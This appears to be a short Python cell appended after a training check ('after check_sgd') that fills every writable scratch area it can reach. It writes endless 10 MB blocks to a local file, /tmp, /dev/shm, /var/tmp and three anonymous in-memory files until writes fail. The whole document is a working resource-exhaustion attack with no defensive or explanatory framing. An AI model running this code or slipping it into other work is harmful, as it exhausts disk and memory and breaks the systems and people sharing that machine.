# Fills the scratch folder, the shared memory and files without a name.
# base: solved

# %% after check_sgd
import os

block = b"x" * 10**7
kept = [os.memfd_create("memory") for _ in range(3)]
for place in ("full", "/tmp/full", "/dev/shm/full", "/var/tmp/full", *(f"/proc/self/fd/{fd}" for fd in kept)):
    try:
        with open(place, "wb") as file:
            while True:
                file.write(block)
    except OSError:
        pass
